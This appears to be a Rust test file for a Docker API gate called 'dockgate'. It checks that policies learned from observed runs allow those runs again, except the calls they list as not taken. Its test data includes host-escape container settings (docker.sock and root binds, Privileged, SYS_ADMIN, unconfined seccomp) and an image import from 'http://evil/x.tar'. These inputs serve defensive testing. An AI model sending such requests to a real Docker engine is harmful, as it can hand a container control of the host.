//! What was learned from a run allows that run again, all but what is listed as not taken: made-up runs through a door that observes,
//! and the recorded calls of real clients. The learned policy's own tests pass, and learning twice gives the same text.
//! Knows nothing of how a policy is learned.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::process::Command;

use dockgate::docker::operations::{BodyPlan, Kind, TABLE};
use proptest::collection::vec;
use proptest::prelude::*;
use proptest::sample::select;
use serde_json::{Value, json};

use crate::recorded::{Call, calls};
use crate::support::client::Client;
use crate::support::engine::Recorder;
use crate::support::gate::Gate;
use crate::support::report;

/// Made-up runs; each starts two gates.
const RUNS: u32 = 8;

/// A request and its operation's id.
#[derive(Debug, Clone)]
struct Asked {
    operation: &'static str,
    bytes: Vec<u8>,
}

impl Asked {
    fn new(operation: &'static str, method: &str, target: &str, body: Option<&Value>) -> Self {
        let body = body.map(Value::to_string).unwrap_or_default();
        let kind = if body.is_empty() { "" } else { "Content-Type: application/json\r\n" };
        let bytes = format!("{method} {target} HTTP/1.1\r\nHost: d\r\n{kind}Content-Length: {}\r\n\r\n{body}", body.len()).into_bytes();
        Self { operation, bytes }
    }
}

/// Operations without a body that a client may call again and again, whatever the engine answers.
fn plain() -> impl Strategy<Value = Asked> {
    let plain: Vec<_> = TABLE
        .iter()
        .filter(|one| matches!(one.row().body, BodyPlan::None) && one.row().kind != Kind::Tunnel)
        // judged by the container that the made-up engine shows, and not by what was seen
        .filter(|one| !one.name().starts_with("Exec") && one.row().until.is_none())
        .copied()
        .collect();
    (select(plain), select(vec!["web", "db", "ci-1"])).prop_map(|(operation, name)| {
        let row = operation.row();
        let path = ["{id}", "{image}", "{checkpoint}"].iter().fold(row.path.to_owned(), |path, place| path.replace(place, name));
        let query = match operation.name() {
            "ImageCreate" => "?fromImage=docker.io/acme/tool&tag=1",
            "ImageTag" => "?repo=acme/other&tag=1",
            "ContainerRename" => "?name=other",
            _ => "",
        };
        Asked::new(operation.name(), row.method.as_str(), &format!("{path}{query}"), None)
    })
}

/// Parts of a container's `HostConfig`, harmless ones and others.
fn parts() -> Vec<(&'static str, Value)> {
    let port = |ip: &str, port: &str| json!({ "80/tcp": [{ "HostIp": ip, "HostPort": port }] });
    let device = |path: &str| json!([{ "PathOnHost": path, "PathInContainer": "/dev/x", "CgroupPermissions": "rwm" }]);
    let mount = |more: Value| {
        let mut mount = json!({ "Type": "bind", "Source": "/srv/m", "Target": "/m", "ReadOnly": true });
        mount.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        json!([mount])
    };
    vec![
        ("Binds", json!(["/srv/sites/a:/a:ro", "ci-1:/c"])),
        ("Binds", json!(["/srv/sites/b:/a:ro", "ci-2:/c"])),
        ("Binds", json!(["/srv/sites/c:/a:ro", "ci-3:/c", "/srv/data:/d"])),
        ("Binds", json!(["/var/run/docker.sock:/s"])),
        ("Binds", json!(["/etc:/e:ro"])),
        ("Binds", json!(["/usr/local/bin:/b"])),
        ("Mounts", mount(json!({}))),
        ("Mounts", mount(json!({ "BindOptions": { "Propagation": "shared" } }))),
        (
            "Mounts",
            json!([{ "Type": "volume", "Source": "v", "Target": "/v", "VolumeOptions": { "DriverConfig": { "Name": "evil", "Options": { "o": "bind" } } } }]),
        ),
        ("Tmpfs", json!({ "/t": "size=1m" })),
        ("CapAdd", json!(["SYS_NICE"])),
        ("CapAdd", json!(["SYS_ADMIN"])),
        ("Privileged", json!(true)),
        ("PidMode", json!("host")),
        ("NetworkMode", json!("ci")),
        ("NetworkMode", json!("host")),
        ("NetworkMode", json!("container:web")),
        ("PortBindings", port("127.0.0.1", "8001")),
        ("PortBindings", port("", "8002")),
        ("PortBindings", port("", "")),
        ("PortBindings", json!({ "80/tcp": [] })),
        ("PublishAllPorts", json!(true)),
        ("Devices", device("/dev/fuse")),
        ("Devices", device("/dev/sda")),
        ("DeviceCgroupRules", json!(["c 1:3 r"])),
        ("Sysctls", json!({ "net.core.somaxconn": "128" })),
        ("Runtime", json!("runsc")),
        ("OomScoreAdj", json!(-500)),
        ("MaskedPaths", json!([])),
        ("Ulimits", json!([{ "Name": "memlock", "Soft": -1, "Hard": -1 }])),
        ("LogConfig", json!({ "Type": "syslog", "Config": { "syslog-address": "tcp://h:1" } })),
        ("SecurityOpt", json!(["seccomp=unconfined"])),
        ("SecurityOpt", json!(["no-new-privileges"])),
        ("GroupAdd", json!(["docker"])),
        ("VolumesFrom", json!(["web"])),
        ("ExtraHosts", json!(["a:host-gateway"])),
        ("CgroupParent", json!("/x")),
        ("RestartPolicy", json!({ "Name": "on-failure", "MaximumRetryCount": 3 })),
    ]
}

fn create() -> impl Strategy<Value = Asked> {
    let images = vec![
        "docker.io/acme/a:1",
        "docker.io/acme/b:1",
        "docker.io/acme/c",
        "nginx",
        "ghcr.io/x/y@sha256:0123456789012345678901234567890123456789012345678901234567890123",
        "sha256:0123456789012345678901234567890123456789012345678901234567890123",
    ];
    (select(images), select(vec!["", "1000:1000", "root"]), vec(select(parts()), 0..3), any::<bool>()).prop_map(
        |(image, user, parts, joins)| {
            let host: serde_json::Map<String, Value> = parts.into_iter().map(|(name, value)| (name.to_owned(), value)).collect();
            let mut body = json!({ "Image": image, "User": user, "Env": ["A=b"], "HostConfig": host });
            if joins {
                body["NetworkingConfig"] = json!({ "EndpointsConfig": { "ci": { "Aliases": ["x"] } } });
            }
            Asked::new("ContainerCreate", "POST", "/v1.47/containers/create?name=made", Some(&body))
        },
    )
}

fn others() -> impl Strategy<Value = Asked> {
    let exec = |words: &[&str], privileged: bool| {
        let body = json!({ "Cmd": words, "Privileged": privileged });
        Asked::new("ContainerExec", "POST", "/containers/web/exec", Some(&body))
    };
    let volume = |body: Value| Asked::new("VolumeCreate", "POST", "/volumes/create", Some(&body));
    let network = |body: Value| Asked::new("NetworkCreate", "POST", "/networks/create", Some(&body));
    let service = |body: Value| Asked::new("ServiceCreate", "POST", "/services/create", Some(&body));
    let task = |mounts: Value| json!({ "Name": "s", "TaskTemplate": { "ContainerSpec": { "Image": "nginx", "Mounts": mounts } }, "EndpointSpec": { "Ports": [{ "TargetPort": 80, "PublishedPort": 8080 }] } });
    select(vec![
        exec(&["ls", "/"], false),
        exec(&["sh", "-c", "id; id"], false),
        exec(&["id"], true),
        exec(&["echo", "a b"], false),
        volume(json!({ "Name": "ci-9" })),
        volume(json!({ "Name": "x", "Driver": "local", "DriverOpts": { "type": "none", "o": "bind", "device": "/" } })),
        network(json!({ "Name": "ci" })),
        network(json!({ "Name": "mac", "Driver": "macvlan", "Options": { "parent": "eth0" } })),
        service(task(json!([]))),
        service(task(json!([{ "Type": "bind", "Source": "/", "Target": "/h" }]))),
        Asked::new("ImageCreate", "POST", "/images/create?fromSrc=http://evil/x.tar", None),
    ])
}

/// Makes the one container that the made-up engine knows: whatever is done to a container is done to it.
fn known() -> Asked {
    let body = json!({ "Image": "docker.io/library/alpine:3.20" });
    Asked::new("ContainerCreate", "POST", "/containers/create?name=web", Some(&body))
}

fn run() -> impl Strategy<Value = Vec<Asked>> {
    vec(prop_oneof![3 => create(), 2 => plain(), 1 => others()], 10..50).prop_map(|mut calls| {
        calls.insert(0, known());
        calls
    })
}

/// Doors, each with a policy, in front of a made-up engine.
fn config(upstream: &Recorder, doors: &[(PathBuf, String)], policies: &str) -> String {
    let mut text = format!("version = 1\n[upstream]\nurl = \"unix://{}\"\n", upstream.path().display());
    for (door, policy) in doors {
        text.push_str(&format!("[[door]]\nlisten = \"unix://{}\"\npolicy = \"{policy}\"\n", door.display()));
    }
    text + policies
}

/// Sends requests one after the other; the ids of their records.
fn send<'b>(door: &Path, requests: impl Iterator<Item = &'b [u8]>) -> Vec<Option<String>> {
    let one = |request: &[u8]| {
        let mut client = Client::unix(door);
        client.send(request);
        let reply = client.reply(request.starts_with(b"HEAD"))?;
        reply.header("dockgate-ref").map(str::to_owned)
    };
    requests.map(one).collect()
}

/// `dockgate learn`; the policy's text. It loads, and its tests pass.
fn learned(trail: &Path, folder: &Path, name: &str, more: &[&str]) -> String {
    let learn = |policy: &Path, tests: &Path| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_dockgate"));
        command.arg("learn").arg(trail).args(["--force", "--name", name, "-o"]).arg(policy).arg("--tests").arg(tests).args(more);
        let output = command.output().unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        std::fs::read_to_string(policy).unwrap()
    };
    let (policy, tests) = (folder.join(format!("{name}.toml")), folder.join(format!("{name}.test.toml")));
    let first = learn(&policy, &tests);
    let checked = Command::new(env!("CARGO_BIN_EXE_dockgate")).arg("check").arg(&policy).output().unwrap();
    let said = format!("{}{}", String::from_utf8_lossy(&checked.stdout), String::from_utf8_lossy(&checked.stderr));
    assert!(checked.status.success() && !said.contains("as-good-as-root"), "{said}\n{first}");
    let tested = Command::new(env!("CARGO_BIN_EXE_dockgate")).arg("test").arg(&tests).output().unwrap();
    let said = format!("{}{}", String::from_utf8_lossy(&tested.stdout), String::from_utf8_lossy(&tested.stderr));
    assert!(tested.status.success(), "{said}\n{first}");
    first
}

/// How many calls of each operation the policy lists as not taken.
fn listed(policy: &str) -> BTreeMap<String, u64> {
    let mut counts = BTreeMap::new();
    let lines: Vec<&str> = policy.lines().skip_while(|line| !line.starts_with("# Not taken")).collect();
    for pair in lines.windows(2) {
        let Some(seen) = pair[1].strip_prefix("#   seen ") else { continue };
        let count = seen.split(' ').next().and_then(|word| word.parse().ok()).unwrap_or(1);
        let operation: String = pair[0].trim_start_matches("# ").chars().take_while(char::is_ascii_alphanumeric).collect();
        *counts.entry(operation).or_default() += count;
    }
    counts
}

/// True for what went to the engine.
fn forwarded(record: Option<&Value>) -> bool {
    record.is_some_and(|record| matches!(record["verdict"].as_str(), Some("allow" | "would-deny")))
}

/// The verdict stands in the first record of a call, and `Gate::stop` keeps the last.
fn verdicts(folder: &Path) -> BTreeMap<String, Value> {
    let text = std::fs::read_to_string(folder.join("trail.jsonl")).unwrap();
    let mut found = BTreeMap::new();
    for record in text.lines().map(|line| serde_json::from_str::<Value>(line).unwrap()) {
        if record["verdict"].is_string() {
            found.entry(record["id"].as_str().unwrap_or_default().to_owned()).or_insert(record);
        }
    }
    found
}

fn replayed(calls: &[Asked]) -> Result<(usize, usize), TestCaseError> {
    let folder = crate::support::folder();
    let (first, second) = (folder.path().join("first"), folder.path().join("second"));
    std::fs::create_dir_all(&first).unwrap();
    std::fs::create_dir_all(&second).unwrap();
    let upstream = Recorder::start(&folder.path().join("engine"));
    let door = first.join("door/s");
    let text = config(&upstream, &[(door.clone(), "seen".to_owned())], "[policy.seen]\nmode = \"observe\"\n");
    let gate = Gate::start(&first, &text, std::slice::from_ref(&door));
    let ids = send(&door, calls.iter().map(|call| call.bytes.as_slice()));
    drop(gate.stop());
    let before = verdicts(&first);
    let policy = learned(&first.join("trail.jsonl"), folder.path(), "learned", &[]);
    prop_assert_eq!(&policy, &learned(&first.join("trail.jsonl"), folder.path(), "learned", &[]));
    let again: Vec<&Asked> =
        calls.iter().zip(&ids).filter(|(_, id)| forwarded(id.as_ref().and_then(|id| before.get(id)))).map(|(call, _)| call).collect();
    let door = second.join("door/s");
    let text = config(&upstream, &[(door.clone(), "learned".to_owned())], &policy.replace("version = 1\n", ""));
    let gate = Gate::start(&second, &text, std::slice::from_ref(&door));
    let ids = send(&door, again.iter().map(|call| call.bytes.as_slice()));
    drop(gate.stop());
    let after = verdicts(&second);
    let mut denied: BTreeMap<String, u64> = BTreeMap::new();
    for (call, _) in again.iter().zip(&ids).filter(|(_, id)| !forwarded(id.as_ref().and_then(|id| after.get(id)))) {
        *denied.entry(call.operation.to_owned()).or_default() += 1;
    }
    prop_assert_eq!(
        &denied,
        &listed(&policy),
        "{}\n{:#?}",
        policy,
        after.values().filter(|one| one["verdict"] != "allow").collect::<Vec<_>>()
    );
    Ok((again.len(), denied.values().sum::<u64>() as usize))
}

#[test]
fn what_was_learned_allows_the_run_again_but_for_what_is_listed() {
    let mut runner = proptest::test_runner::TestRunner::new(ProptestConfig {
        cases: RUNS,
        max_shrink_iters: 40,
        failure_persistence: None,
        ..ProptestConfig::default()
    });
    let totals = std::cell::Cell::new((0, 0));
    let ended = runner.run(&run(), |calls| {
        let (replayed, denied) = replayed(&calls)?;
        totals.set((totals.get().0 + replayed, totals.get().1 + denied));
        Ok(())
    });
    report(&format!("learn: {RUNS} made-up runs / {} calls replayed / {} not taken", totals.get().0, totals.get().1));
    if let Err(error) = ended {
        panic!("{error}");
    }
    assert!(totals.get().0 > 100 && totals.get().1 > 20);
}

/// Denied in the replay because the made-up engine shows another exec than the client made: one without a command.
const ABOUT_EXECS: &str = "ExecStart";

#[test]
fn what_was_learned_from_a_real_client_allows_its_calls_again() {
    let calls = calls();
    let clients: BTreeSet<&str> = calls.iter().map(|call| call.client.as_str()).collect();
    let folder = crate::support::folder();
    let (first, second) = (folder.path().join("1"), folder.path().join("2"));
    std::fs::create_dir_all(&first).unwrap();
    std::fs::create_dir_all(&second).unwrap();
    let upstream = Recorder::start(&folder.path().join("engine"));
    let policy_of = |client: &str| client.replace(|letter: char| !letter.is_ascii_alphanumeric(), "-");
    let doors = |base: &Path, policy: &dyn Fn(&str) -> String| -> Vec<(PathBuf, String)> {
        clients.iter().map(|client| (base.join(policy_of(client)).join("s"), policy(client))).collect()
    };
    let observed = doors(&first, &|_| "seen".to_owned());
    let paths = |doors: &[(PathBuf, String)]| doors.iter().map(|(path, _)| path.clone()).collect::<Vec<_>>();
    let gate = Gate::start(&first, &config(&upstream, &observed, "[policy.seen]\nmode = \"observe\"\n"), &paths(&observed));
    let of = |client: &str| calls.iter().filter(|call| call.client == client).collect::<Vec<&Call>>();
    let sent: Vec<Vec<Option<String>>> = clients
        .iter()
        .zip(&observed)
        .map(|(client, (door, _))| {
            send(door, std::iter::once(known().bytes.as_slice()));
            let bytes: Vec<Vec<u8>> = of(client).iter().map(|call| call.bytes()).collect();
            send(door, bytes.iter().map(Vec::as_slice))
        })
        .collect();
    drop(gate.stop());
    let before = verdicts(&first);
    let mut policies = String::new();
    let mut pages = Vec::new();
    for client in &clients {
        let name = policy_of(client);
        let page = learned(&first.join("trail.jsonl"), folder.path(), &name, &["--door", &format!("/{name}/")]);
        policies.push_str(&page.replace("version = 1\n", ""));
        pages.push(page);
    }
    let served = doors(&second, &policy_of);
    let gate = Gate::start(&second, &config(&upstream, &served, &policies), &paths(&served));
    let (mut faults, mut total, mut not_taken, mut execs) = (Vec::new(), 0, 0, 0);
    let mut asked: Vec<(usize, Vec<Option<String>>)> = Vec::new();
    for (at, client) in clients.iter().enumerate() {
        let again: Vec<Vec<u8>> = of(client)
            .iter()
            .zip(&sent[at])
            .filter(|(_, id)| forwarded(id.as_ref().and_then(|id| before.get(id))))
            .map(|(call, _)| call.bytes())
            .collect();
        total += again.len();
        asked.push((at, send(&served[at].0, again.iter().map(Vec::as_slice))));
    }
    drop(gate.stop());
    let after = verdicts(&second);
    for (at, ids) in &asked {
        let mut denied: BTreeMap<String, u64> = BTreeMap::new();
        for record in ids.iter().filter_map(|id| after.get(id.as_ref()?)).filter(|record| !forwarded(Some(record))) {
            *denied.entry(record["operation"].as_str().unwrap_or_default().to_owned()).or_default() += 1;
        }
        let listed = listed(&pages[*at]);
        not_taken += listed.values().sum::<u64>();
        for (operation, count) in denied {
            let known = listed.get(&operation).copied().unwrap_or_default();
            if count > known && operation == ABOUT_EXECS {
                execs += count - known;
            } else if count > known {
                faults.push(format!(
                    "{}: {operation} denied {count} times, listed {known} times\n{}",
                    policy_of(clients.iter().nth(*at).unwrap()),
                    pages[*at]
                ));
            }
        }
    }
    report(&format!(
        "learn: {} clients / {total} calls replayed / {not_taken} not taken / {execs} execs of the made-up engine",
        clients.len()
    ));
    assert!(faults.is_empty(), "{}", faults.join("\n"));
    assert!(total > 500);
}

#[test]
fn questions_need_a_terminal() {
    let output = Command::new(env!("CARGO_BIN_EXE_dockgate")).args(["learn", "--ask", "audit.jsonl"]).output().unwrap();
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert_eq!(output.status.code(), Some(2), "{said}");
    assert!(said.contains("there is no terminal to answer on"), "{said}");
}
